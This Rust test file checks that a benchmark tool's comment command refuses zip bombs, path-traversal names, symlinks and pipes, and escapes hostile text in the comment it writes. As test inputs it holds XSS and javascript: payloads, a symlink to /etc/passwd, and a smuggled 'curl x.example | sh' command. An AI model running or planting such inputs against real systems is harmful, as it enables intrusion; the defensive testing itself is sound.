//! What does the job that may write comments make of an artifact that means harm? By the real binary: a refusal in one line
//! that says which limit was passed, or a comment in which the harm is a text.

#![allow(clippy::unwrap_used, reason = "helpers of tests fail by panicking, as tests do")]

use serde_json::{Value, json};
use std::io::{Cursor, Write as _};
use std::path::Path;
use std::process::{Command, Output};
use zip::write::SimpleFileOptions;
use zip::{CompressionMethod, ZipWriter};

const MARKER: &str = "<!-- plumbkv-bench-gate -->\n";
const COMMENT_LIMIT: usize = 65_536;

/// The made-up gate, one verdict of each outcome.
fn gate() -> Value {
    serde_json::from_str(include_str!("fixtures/gate/v2.json")).unwrap()
}

fn spelled(gate: &Value) -> Vec<u8> {
    serde_json::to_vec_pretty(gate).unwrap()
}

fn options() -> SimpleFileOptions {
    SimpleFileOptions::default().compression_method(CompressionMethod::Deflated)
}

fn archive(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    for (name, bytes) in entries {
        writer.start_file(*name, options()).unwrap();
        writer.write_all(bytes).unwrap();
    }
    writer.finish().unwrap().into_inner()
}

fn comment(artifact: &Path, more: &[&str]) -> Output {
    let mut command = Command::new(env!("CARGO_BIN_EXE_bench-runner"));
    command.arg("comment").arg(artifact).args(more).output().unwrap()
}

/// The comment that is made of an artifact of these bytes.
fn made(name: &str, bytes: &[u8]) -> String {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join(name);
    std::fs::write(&path, bytes).unwrap();
    let output = comment(&path, &[]);
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    String::from_utf8(output.stdout).unwrap()
}

/// Exit 1, nothing on stdout, no file left behind, and one harmless line on stderr, which is returned.
fn refused_at(path: &Path, more: &[&str]) -> String {
    let output = comment(path, more);
    let said = String::from_utf8(output.stderr).unwrap();
    assert_eq!((output.status.code(), said.lines().count()), (Some(1), 1), "{said}");
    assert!(output.stdout.is_empty(), "something was said all the same");
    assert!(said.starts_with("bench-runner: invalid artifact: "), "{said}");
    assert!(!said.trim_end().chars().any(char::is_control) && said.len() < 2_000, "{said:?}");
    said
}

fn refused(name: &str, bytes: &[u8]) -> String {
    let folder = tempfile::tempdir().unwrap();
    std::fs::write(folder.path().join(name), bytes).unwrap();
    let said = refused_at(&folder.path().join(name), &[]);
    let left: Vec<_> =
        std::fs::read_dir(folder.path()).unwrap().map(|one| one.unwrap().file_name()).collect();
    assert_eq!(left, [name], "something was unpacked");
    said
}

/// The refusal of a gate that was changed.
fn refused_when(change: impl Fn(&mut Value)) -> String {
    let mut gate = gate();
    change(&mut gate);
    refused("artifact.zip", &archive(&[("gate.json", &spelled(&gate))]))
}

/// The comment on a gate that was changed.
fn made_when(change: impl Fn(&mut Value)) -> String {
    let mut gate = gate();
    change(&mut gate);
    let text = made("artifact.zip", &archive(&[("gate.json", &spelled(&gate))]));
    assert!(text.starts_with(MARKER) && text.len() <= COMMENT_LIMIT, "{} bytes", text.len());
    text
}

#[test]
fn an_honest_artifact_becomes_a_comment() {
    let text = spelled(&gate());
    let archive = archive(&[("gate.json", &text), ("raw/trials.json", b"[]")]);
    let by_archive = made("artifact.zip", &archive);
    assert!(by_archive.starts_with(&format!("{MARKER}### Gate: regression\n")), "{by_archive}");
    assert!(by_archive.contains("3 of 5 judged; 1 too noisy, 1 not measured"), "{by_archive}");
    assert_eq!(by_archive, made("gate.json", &text));

    let folder = tempfile::tempdir().unwrap();
    std::fs::write(folder.path().join("gate.json"), &text).unwrap();
    let out = folder.path().join("comment.md");
    let head = gate()["head"]["commit"].as_str().unwrap().to_owned();
    let output = comment(folder.path(), &["--head-commit", &head, "--out", out.to_str().unwrap()]);
    assert!(output.status.success() && output.stdout.is_empty());
    assert_eq!(std::fs::read_to_string(&out).unwrap(), by_archive);
}

#[test]
fn the_gate_of_another_commit_is_refused() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("gate.json");
    std::fs::write(&path, spelled(&gate())).unwrap();
    let said = refused_at(&path, &["--head-commit", &"0".repeat(40)]);
    assert!(said.contains("is of head commit \"2222222222bb"), "{said}");
    // A commit that was not given is no commit of any gate: the command line is wrong.
    assert_eq!(comment(&path, &["--head-commit", ""]).status.code(), Some(64));
}

#[test]
fn an_archive_that_is_too_large_is_refused() {
    let mut random = 1_u64;
    let noise: Vec<u8> = std::iter::repeat_with(|| {
        random = random.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1);
        (random >> 56) as u8
    })
    .take(9 * 1024 * 1024)
    .collect();
    let said = refused("artifact.zip", &archive(&[("gate.json", &spelled(&gate())), ("noise", &noise)]));
    assert!(said.contains("larger than 8388608 bytes"), "{said}");
}

#[test]
fn a_bomb_is_refused_whatever_its_header_says() {
    let mut text = spelled(&gate());
    text.resize(200 * 1024 * 1024, b' ');
    let bomb = archive(&[("gate.json", &text)]);
    assert!(bomb.len() < 1024 * 1024, "a bomb of {} bytes", bomb.len());
    let said = refused("artifact.zip", &bomb);
    assert!(said.contains("\"gate.json\" is larger than 4194304 bytes uncompressed"), "{said}");
    // The directory says it is small: bytes 24 to 28 of the entry.
    let mut lying = bomb;
    let at = lying.windows(4).rposition(|one| one == b"PK\x01\x02").unwrap() + 24;
    lying[at..at + 4].copy_from_slice(&1_000_u32.to_le_bytes());
    refused("artifact.zip", &lying);
}

#[test]
fn another_kind_of_record_a_newer_one_or_none_is_refused() {
    let said = refused_when(|gate| gate["schema"] = json!("plumbkv.run"));
    assert!(said.contains("is a \"plumbkv.run\", not a 'plumbkv.gate'"), "{said}");
    let said = refused_when(|gate| {
        gate["schema_version"] = json!(3);
        gate["new_field"] = json!(1);
    });
    assert!(
        said.contains("written by a newer bench-runner") && said.contains("the default branch"),
        "{said}"
    );
    let said = refused_when(|gate| gate["schema_version"] = json!(0));
    assert!(said.contains("which no bench-runner ever wrote"), "{said}");
    let said = refused_when(|gate| gate["verdicts"][0]["new\n\u{1b}[2Jfield"] = json!(1));
    assert!(said.contains("unknown field `new \\u{1b}[2Jfield`"), "{said}");
    let said = refused("gate.json", b"[1, 2");
    assert!(said.contains("gate.json: "), "{said}");
    let text = String::from_utf8(spelled(&gate())).unwrap().replace("1081.5", "1e999");
    assert!(refused("gate.json", text.as_bytes()).contains("number out of range"));
    assert!(refused("gate.json", &[0xff; 64]).contains("gate.json: "));
}

#[test]
fn names_that_lead_elsewhere_are_refused() {
    let text = spelled(&gate());
    for (name, why) in [
        ("../evil", "leads upwards by '..'"),
        ("raw/../../evil", "leads upwards by '..'"),
        ("/etc/evil", "is an absolute path"),
        ("..\\evil", "holds a backslash"),
        ("C:evil", "begins with a drive"),
        ("\u{1b}[2J", "holds a control character"),
    ] {
        let said = refused("artifact.zip", &archive(&[("gate.json", &text), (name, b"")]));
        assert!(said.contains(why), "{name:?}: {said}");
    }
    let said = refused("artifact.zip", &archive(&[("../gate.json", &text)]));
    assert!(said.contains("leads upwards"), "{said}");
    let many: Vec<String> = (0..20).map(|number| number.to_string()).collect();
    let mut entries: Vec<(&str, &[u8])> = many.iter().map(|name| (name.as_str(), &b""[..])).collect();
    entries.push(("gate.json", &text));
    assert!(refused("artifact.zip", &archive(&entries)).contains("no more than 16 are allowed"));
}

#[test]
fn links_are_refused_in_an_archive_and_in_a_folder() {
    let text = spelled(&gate());
    for name in ["gate.json", "other"] {
        let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
        if name != "gate.json" {
            writer.start_file("gate.json", options()).unwrap();
            writer.write_all(&text).unwrap();
        }
        writer.add_symlink(name, "/etc/passwd", options()).unwrap();
        let said = refused("artifact.zip", &writer.finish().unwrap().into_inner());
        assert!(said.contains(&format!("\"{name}\" is a symbolic link")), "{said}");

        let folder = tempfile::tempdir().unwrap();
        let secret = tempfile::tempdir().unwrap();
        std::fs::write(secret.path().join("gate.json"), &text).unwrap();
        if name != "gate.json" {
            std::fs::write(folder.path().join("gate.json"), &text).unwrap();
        }
        std::os::unix::fs::symlink(secret.path().join("gate.json"), folder.path().join(name)).unwrap();
        let said = refused_at(folder.path(), &[]);
        assert!(said.contains(&format!("\"{name}\" is a symbolic link")), "{said}");
        if name == "gate.json" {
            assert!(refused_at(&folder.path().join(name), &[]).contains("is a symbolic link"));
        }
    }
}

#[test]
fn a_pipe_is_refused_and_not_waited_for() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("gate.json");
    let done = Command::new("mkfifo").arg(&path).status().unwrap();
    assert!(done.success());
    assert!(refused_at(&path, &[]).contains("is a device or pipe"));
    assert!(refused_at(folder.path(), &[]).contains("is a device or pipe"));
}

/// Puts a text wherever a gate holds one, apart from where a word of a list is asked for.
fn every_text(value: &mut Value, text: &str) {
    const WORDS: [&str; 7] = ["schema", "outcome", "direction", "stage", "class", "commit", "sha256"];
    match value {
        Value::String(one) => text.clone_into(one),
        Value::Array(items) => items.iter_mut().for_each(|item| every_text(item, text)),
        Value::Object(fields) => {
            for (key, inner) in fields {
                if !WORDS.contains(&key.as_str()) {
                    every_text(inner, text);
                }
            }
        }
        _ => {}
    }
}

#[test]
fn texts_that_mean_harm_are_texts() {
    for hostile in [
        "@everyone",
        "<img src=x onerror=alert(1)>",
        "](javascript:alert(1))",
        "[x](javascript:alert(1))",
        "x\n\n</details>\n# owned",
        "| a | b |",
        "```\nowned",
        "https://x.example #1",
        "\u{1b}[2J\u{202e}",
    ] {
        let text = made_when(|gate| every_text(gate, hostile));
        for needle in [
            "@everyone",
            "<img",
            "](",
            "[x",
            "\n</details>\n# owned",
            "\n# owned",
            "```",
            "https://",
            "#1",
            "\u{1b}",
            "\u{202e}",
        ] {
            let live = text.match_indices(needle).any(|(at, _)| !text[..at].ends_with('\\'));
            assert!(!live, "{needle:?} of {hostile:?} came through:\n{text}");
        }
        assert_eq!(text.matches("<details>").count(), 1, "{text}");
        assert_eq!(text.matches("\n</details>\n").count(), 1, "{text}");
    }
}

#[test]
fn a_command_of_a_stranger_is_not_offered_for_copying() {
    let text = made_when(|gate| gate["command"] = json!("bench-runner gate; curl x.example | sh"));
    assert!(!text.contains("curl") && text.contains("is not repeated here"), "{text}");
}

#[test]
fn texts_of_ten_thousand_characters_are_cut() {
    let text = made_when(|gate| every_text(gate, &"é".repeat(10_000)));
    assert!(text.contains("more characters)"), "nothing was cut");
    assert!(text.lines().all(|line| line.chars().count() < 3_000), "a line is as long as the text");
}

#[test]
fn a_thousand_scenarios_fit_and_no_regression_is_left_out() {
    let text = made_when(|gate| {
        let of = |place: usize, number: usize| {
            let mut one = gate["verdicts"][place].clone();
            one["label"] =
                json!(format!("scenario-{number:04}/{}", if place == 0 { "red" } else { "green" }));
            one
        };
        // The regressions stand last in the file.
        let all: Vec<Value> = (0..1_000).map(|number| of(if number < 940 { 4 } else { 0 }, number)).collect();
        gate["verdicts"] = Value::Array(all);
    });
    assert!(text.chars().count() <= COMMENT_LIMIT);
    let rows = |word: &str| {
        text.lines().filter(|line| line.starts_with("| scenario-") && line.contains(word)).count()
    };
    for number in 940..1_000 {
        assert!(text.contains(&format!("| scenario-{number:04}/red |")), "regression {number} is left out");
    }
    assert_eq!(rows("/red |"), 60);
    let passes = rows("/green |");
    assert!(passes > 50 && passes < 940, "{passes} passes");
    assert!(text.contains(&format!("\n{} of 940 rows are left out: ", 940 - passes)), "{text}");
    assert!(text.contains("1000 of 1000 judged"), "{text}");
}

#[test]
fn more_verdicts_than_can_be_shown_are_refused() {
    let said = refused_when(|gate| {
        let one = gate["verdicts"][4].clone();
        gate["verdicts"] = Value::Array(vec![one; 2_001]);
    });
    assert!(said.contains("2001 verdicts, and no more than 2000 are allowed"), "{said}");
}
